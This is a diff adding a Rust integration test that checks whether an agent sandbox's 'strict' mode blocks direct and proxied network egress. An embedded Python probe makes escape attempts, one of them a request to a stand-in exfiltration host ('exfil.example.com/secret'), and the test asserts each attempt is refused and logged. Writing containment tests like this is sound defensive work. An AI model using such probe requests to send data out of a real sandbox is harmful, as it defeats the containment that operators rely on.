@@ -200,3 +200,122 @@ fn bad_sandbox_entries_are_errors_of_validate() {
     }
     assert!(!said.contains("entry `ok.example.com"), "{said}");
 }
+
+/// The `strict` agent: direct connections, the proxy to an allowed and a
+/// refused port, a refused name, and name resolution, each reported.
+const STRICT: &str = r#"#!/usr/bin/env python3
+import os, socket, urllib.request
+report = open(os.path.join(os.environ["TMPDIR"], "report"), "a")
+a, b = int(os.environ["PORT_A"]), int(os.environ["PORT_B"])
+def attempt(name, fn):
+    try:
+        fn()
+        report.write(name + " escaped\n")
+    except Exception as e:
+        report.write(name + " refused\n")
+def direct(port):
+    socket.create_connection(("127.0.0.1", port), timeout=3).close()
+def via_proxy(url):
+    return urllib.request.urlopen(url, timeout=10).read()
+attempt("direct_loopback_refused_port", lambda: direct(b))
+attempt("direct_loopback_allowed_port", lambda: direct(a))
+attempt("direct_outside", lambda: socket.create_connection(("192.0.2.1", 80), timeout=3))
+attempt("resolve_name", lambda: socket.getaddrinfo("example.com", 80))
+attempt("proxy_refused_port", lambda: via_proxy("http://127.0.0.1:%d/" % b))
+attempt("proxy_refused_host", lambda: via_proxy("http://exfil.example.com/secret"))
+body = via_proxy("http://127.0.0.1:%d/ok" % a)
+report.write("proxy_allowed " + body.decode() + "\n")
+report.write("done\n")
+report.close()
+"#;
+
+/// An HTTP server on loopback answering every request with `body`; the
+/// flag says whether anyone reached it.
+fn http_server(body: &'static str) -> (u16, std::sync::Arc<std::sync::atomic::AtomicBool>) {
+    use std::io::{Read, Write};
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let hit = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
+    let seen = hit.clone();
+    std::thread::spawn(move || {
+        for conn in listener.incoming() {
+            let Ok(mut conn) = conn else { continue };
+            seen.store(true, std::sync::atomic::Ordering::SeqCst);
+            let mut buf = [0u8; 4096];
+            let _ = conn.read(&mut buf);
+            let _ = write!(
+                conn,
+                "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
+                body.len()
+            );
+        }
+    });
+    (port, hit)
+}
+
+#[test]
+fn a_strict_run_reaches_only_allowed_hosts_through_the_proxy_and_each_attempt_is_an_event() {
+    let (allowed, _) = http_server("reached");
+    let (refused, refused_hit) = http_server("leaked");
+    let extra =
+        format!("[runs.sandbox]\nmode = \"strict\"\nallow_hosts = [\"127.0.0.1:{allowed}\"]\n");
+    let dir = crate::worktrees::repository(
+        &manifest(&extra).replace(
+            "command = \"./escape.sh\"",
+            &format!(
+                "command = \"./strict.py\"\nenv = {{ PORT_A = \"{allowed}\", PORT_B = \"{refused}\" }}"
+            ),
+        ),
+        &[("strict.py", STRICT)],
+    );
+    std::fs::set_permissions(
+        dir.path().join("strict.py"),
+        std::os::unix::fs::PermissionsExt::from_mode(0o755),
+    )
+    .unwrap();
+    git(dir.path(), &["add", "strict.py"]);
+    git(dir.path(), &["commit", "--quiet", "-m", "mode"]);
+    let home = tempfile::tempdir().unwrap();
+    let daemon = start(dir.path(), home.path(), &[]);
+    let id = fire(dir.path(), "agent", "{}");
+    ended(dir.path(), 1);
+    let report = std::fs::read_to_string(dir.path().join(".npc/runs").join(&id).join("tmp/report"))
+        .unwrap_or_else(|e| panic!("no report ({e}):\n{}", daemon.log()));
+    assert!(
+        report.ends_with("proxy_allowed reached\ndone\n"),
+        "{report}"
+    );
+    let escaped: Vec<&str> = report.lines().filter(|l| l.ends_with("escaped")).collect();
+    assert!(escaped.is_empty(), "escaped: {escaped:?}\n{report}");
+    assert_eq!(
+        report.lines().filter(|l| l.ends_with("refused")).count(),
+        6,
+        "{report}"
+    );
+    assert!(!refused_hit.load(std::sync::atomic::Ordering::SeqCst));
+    let events = daemon.events();
+    let egress: Vec<(String, u64, bool)> = events
+        .iter()
+        .filter(|e| e["kind"] == "run.egress")
+        .map(|e| {
+            let p = &e["payload"];
+            (
+                p["host"].as_str().unwrap_or_default().to_string(),
+                p["port"].as_u64().unwrap_or_default(),
+                p["allowed"].as_bool().unwrap_or_default(),
+            )
+        })
+        .collect();
+    for expected in [
+        ("127.0.0.1".to_string(), u64::from(allowed), true),
+        ("127.0.0.1".to_string(), u64::from(refused), false),
+        ("exfil.example.com".to_string(), 80, false),
+    ] {
+        assert!(egress.contains(&expected), "{expected:?} in {egress:?}");
+    }
+    let denied = events
+        .iter()
+        .filter(|e| e["kind"] == "tool.denied" && e["payload"]["by"] == "sandbox")
+        .count();
+    assert_eq!(denied, 2, "{events:#?}");
+}
